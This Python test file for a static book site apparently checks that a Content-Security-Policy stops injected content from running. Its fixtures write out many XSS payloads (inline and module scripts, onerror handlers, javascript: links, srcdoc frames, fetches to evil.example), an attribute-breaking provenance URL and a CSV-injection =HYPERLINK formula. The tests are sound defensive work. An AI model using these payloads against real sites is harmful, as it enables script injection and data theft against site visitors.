"""Nothing injected runs, in Chromium (issue 20, items 1-4): the book's own pages raise no Content-Security-
Policy violation (charts, the paper table, MathJax, search and the theme all work under it), and a hostile
post (script in every form a page allows, requests to another host), a hostile Trends provenance and a post
titled with HTML run nothing and request nothing.

The hostile posts are hand-made here and imported with ``import-post`` into a temporary copy of the book,
with a Google Trends export whose first term is a spreadsheet formula, imported with a hostile ``--url``.
Pages are opened from ``file://`` with every other request aborted (and recorded).
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from urllib.parse import unquote, urlencode

import pandas as pd
import pytest
from bs4 import BeautifulSoup

from ai4neuro.testing import copy_repository, open_page, run_build, wait_drawn

pytestmark = [pytest.mark.book, pytest.mark.browser]

PART_1 = "chapters/beyond-neuroai-we-need-ai4neuro-part-1.html"
ABOUT = "chapters/about-data.html"
FORMULA_TERM = '=HYPERLINK("https://evil.example/x";"x")'
HOSTILE_URL = (
    "https://trends.google.com/explore?q=%3DHYPERLINK(%22https://evil.example/x%22;%22x%22),AI4neuro"
    '&date=all&hl=en-GB&x="><img src=x onerror="window.__hostile_provenance=1">'
)
# Everything a post's HTML may try: inline, spaced, inserted and module scripts, handlers, javascript: and
# srcdoc frames, frames, styles, images and objects from another host, <base>, a form and a link to script.
HOSTILE_POST = """---
title: "<img src=x onerror=\\"window.__hostile_title = 1\\"> A hostile post"
---

A post whose raw HTML tries what a page can do to run script or to reach the network.

<script>window.__hostile_inline = 1; fetch("https://evil.example/inline");</script>

<script >window.__hostile_spaced = 1</script >

<script>var s = document.createElement("script"); s.src = "https://evil.example/inserted.js";
document.head.appendChild(s);</script>

<script type="module">window.__hostile_module = 1; import("https://evil.example/module.js");</script>

<img src="data:image/png;base64,AAAA" onerror="window.__hostile_onerror = 1" alt="">

<img src="https://evil.example/pixel.png" alt="a pixel from another host">

<iframe src="javascript:parent.__hostile_frame = 1" title="a javascript frame"></iframe>

<iframe srcdoc="<script>parent.__hostile_srcdoc = 1</script>" title="a srcdoc frame"></iframe>

<iframe src="https://evil.example/frame.html" title="a frame from another host"></iframe>

<link rel="stylesheet" href="https://evil.example/style.css">

<object data="https://evil.example/object.bin" type="application/octet-stream"></object>

<svg width="10" height="10"><script>window.__hostile_svg = 1</script></svg>

<style>@import url("https://evil.example/import.css");
.hostile-bg { background: url("https://evil.example/bg.png"); }</style>

<div class="hostile-bg">A background from another host.</div>

<base href="https://evil.example/">

<a id="hostile-link" href="javascript:window.__hostile_link = 1">a javascript link</a>

<form action="https://evil.example/form"><button id="hostile-submit" type="submit">send</button></form>

## <img src="data:," onerror="window.__hostile_heading = 1"> Hostile heading

The end.
"""
MATH_POST = """---
title: "A note with an equation"
---

The right triangle's rule, $$a^2 + b^2 = c^2$$, typeset by MathJax from the book's own files.
"""
FLAGS = "Object.keys(window).filter(name => name.startsWith('__hostile'))"
LISTEN = (
    "window.__cspViolations = [];"
    "document.addEventListener('securitypolicyviolation', e => window.__cspViolations.push("
    "[e.violatedDirective, e.blockedURI, e.sourceFile, e.lineNumber].join(' ')));"
)


def hostile_export(folder: Path) -> Path:
    """A legacy-layout Google Trends export (as tests/fixtures/trends/exports/en_monthly.csv) whose first
    term is a spreadsheet formula."""
    rows = "\n".join(f"2023-{month:02d},{10 * month},{month}" for month in range(1, 9))
    path = folder / "multiTimeline.csv"
    path.write_text(
        f"Category: All categories\n\nMonth,{FORMULA_TERM}: (Worldwide),AI4neuro: (Worldwide)\n{rows}\n",
        encoding="utf-8",
    )
    return path


def run_command(source: Path, *arguments: str) -> None:
    result = subprocess.run(
        [sys.executable, "-m", "ai4neuro", *arguments],
        cwd=source,
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(source), "AI4NEURO_DATA": str(source / "data")},
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.fixture(scope="module")
def hostile_book(tmp_path_factory) -> Path:
    source = copy_repository(tmp_path_factory.mktemp("hostile-book"))
    for name, text in (("2024-06-01-hostile.md", HOSTILE_POST), ("2024-06-02-math-note.md", MATH_POST)):
        (source / "posts" / "_posts" / name).write_text(text, encoding="utf-8")
        run_command(source, "import-post", f"posts/_posts/{name}")
    run_command(source, "import-trends", str(hostile_export(source)), "--url", HOSTILE_URL)
    return run_build(source)


class Visit:
    """A page opened from file:// with the network blocked (:func:`open_page`), its CSP violations recorded."""

    def __init__(self, browser, path: Path, query: str = "") -> None:
        self.opened = open_page(browser, path, query=query, init_script=LISTEN)
        self.page = self.opened.page
        self.context = self.page.context
        self.requests = self.opened.blocked_requests
        if 'http-equiv="refresh"' in path.read_text(encoding="utf-8"):  # the site's root sends readers on
            self.page.wait_for_url("**/chapters/*.html")
            self.page.wait_for_load_state("load")

    def violations(self) -> list[str]:
        return self.page.evaluate("window.__cspViolations")

    def policy_messages(self) -> list[str]:
        lines = self.opened.messages + self.opened.console_errors  # console lines of any type, uncaught errors
        return [line for line in lines if "Content Security Policy" in line or "unsafe-eval" in line]


@pytest.fixture
def visit(browser):
    opened: list[Visit] = []

    def open_(path: Path, query: str = "") -> Visit:
        opened.append(Visit(browser, path, query))
        return opened[-1]

    yield open_
    for item in opened:
        item.context.close()


def book_pages(html: Path) -> list[Path]:
    return sorted(page for page in html.rglob("*.html") if not {"_static", "_sources"} & set(page.parts))


# --- the book's own pages ---------------------------------------------------------------------------


def test_every_page_carries_the_policy_before_any_script(book_html):
    for path in book_pages(book_html):
        head = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser").head
        tags = [tag for tag in head.find_all(True) if tag.name in ("meta", "script")]
        policy = head.find("meta", attrs={"http-equiv": "Content-Security-Policy"})
        assert policy is not None and tags.index(policy) <= 1, path  # after <meta charset>, before any script
        content = policy["content"]
        assert "default-src 'self'" in content and "'unsafe-eval'" not in content, path
        assert "'unsafe-inline'" not in content.split("script-src")[1], path


def test_the_books_own_pages_raise_no_policy_violation(book_html, visit):
    """Charts (Vega without eval), the paper table's rows (a <script src>), the theme, search: all under the policy."""
    for path in book_pages(book_html):
        opened = visit(path, "?q=neuroscience" if path.name == "search.html" else "")
        page = opened.page
        wait_drawn(page)
        for table in page.locator("div.ai4n-table").all():
            table.scroll_into_view_if_needed()
            page.wait_for_selector("div.ai4n-table select", timeout=15_000)  # the rows came: the controls drew
        if path.name == "search.html":
            page.wait_for_selector("#search-results li a", timeout=20_000)
        page.wait_for_timeout(300)
        undrawn = page.eval_on_selector_all("div.ai4n-chart", "els => els.filter(e => e.dataset.rendered !== 'true')")
        assert undrawn == [], path
        assert opened.violations() == [] and opened.policy_messages() == [], (path, opened.violations())
        assert opened.requests == [], (path, opened.requests)


def test_charts_answer_the_pointer_under_the_policy(book_html, visit):
    """Hover and legend clicks run Vega expressions: through its interpreter, not `new Function`."""
    from ai4neuro.testing import hover_until_tooltip

    opened = visit(book_html / PART_1)
    chart = "div.ai4n-chart"
    assert hover_until_tooltip(opened.page, chart, "path, rect") != ""
    assert opened.violations() == [] and opened.policy_messages() == []


# --- hostile input ----------------------------------------------------------------------------------


def test_a_hostile_posts_script_does_not_run_and_requests_nothing(hostile_book, visit):
    """Issue 20, item 3: six requests to another host from one post, and its inline script ran."""
    opened = visit(hostile_book / "chapters" / "hostile.html")
    page = opened.page
    page.wait_for_timeout(1000)
    page.click("#hostile-link", no_wait_after=True)
    page.click("#hostile-submit", no_wait_after=True)
    page.wait_for_timeout(1000)
    assert page.url.endswith("chapters/hostile.html")  # the form went nowhere
    assert page.evaluate(FLAGS) == []
    assert opened.requests == []
    assert "A background from another host." in page.inner_text("article")  # the post is shown
    assert len(opened.violations()) >= 10  # each attempt was stopped by the policy


def test_a_post_with_math_typesets_under_the_policy(hostile_book, visit):
    opened = visit(hostile_book / "chapters" / "math-note.html")
    opened.page.wait_for_selector("mjx-container svg", timeout=20_000)
    assert opened.violations() == [] and opened.policy_messages() == [] and opened.requests == []


def test_search_shows_a_title_with_html_as_text(hostile_book, visit):
    """Issue 20, item 2: a post titled <img src=x onerror=…> ran on search.html?q=…: Sphinx 7.4.7 indexes
    section titles as text and put them into the results as HTML. Searched by its whole text, the heading is
    found as a title (the index's "alltitles"), the page by its own title."""
    heading = '<img src="data:," onerror="window.__hostile_heading = 1"> Hostile heading'
    for query, expected in ((heading, "Hostile heading"), ("hostile", "A hostile post")):
        opened = visit(hostile_book / "search.html", "?" + urlencode({"q": query}))
        page = opened.page
        page.wait_for_selector("#search-results li a", timeout=20_000)
        page.wait_for_timeout(500)
        titles = page.eval_on_selector_all("#search-results li a", "els => els.map(e => e.textContent)")
        assert any("<img src=" in title and expected in title for title in titles), titles
        assert page.locator("#search-results img").count() == 0
        assert page.evaluate(FLAGS) == [] and opened.requests == [] and opened.violations() == []


def test_a_hostile_trends_provenance_is_text_on_about_the_data(hostile_book, visit):
    """Issue 20, item 1: --url '…"><img src=x onerror=…>' ran script on About the data."""
    opened = visit(hostile_book / ABOUT)
    page = opened.page
    assert page.locator("article img[src='x']").count() == 0
    assert page.evaluate(FLAGS) == [] and opened.violations() == []
    links = page.eval_on_selector_all(
        "article a", "els => els.map(e => e.getAttribute('href')).filter(h => h.includes('evil.example'))"
    )
    assert links and all('"' not in link and "<" not in link for link in links), links


def test_a_formula_term_is_neutralised_in_the_figures_csv_and_the_download(hostile_book, visit):
    """Issue 20, item 4: a Trends term =HYPERLINK(…) reached figures/trends-interest.csv and the page's
    CSV download unchanged; the interest, a number, stays a number."""
    figures_csv = hostile_book.parent.parent / "figures" / "trends-interest.csv"
    table = pd.read_csv(figures_csv)
    assert set(table["term"]) == {"'" + FORMULA_TERM, "AI4neuro"} and table["interest"].dtype.kind == "i"
    opened = visit(hostile_book / PART_1)
    href = opened.page.get_attribute("a[download='trends-interest.csv']", "href")
    assert href.startswith("data:text/csv")
    assert unquote(href.split(",", 1)[1]) == figures_csv.read_text(encoding="utf-8")
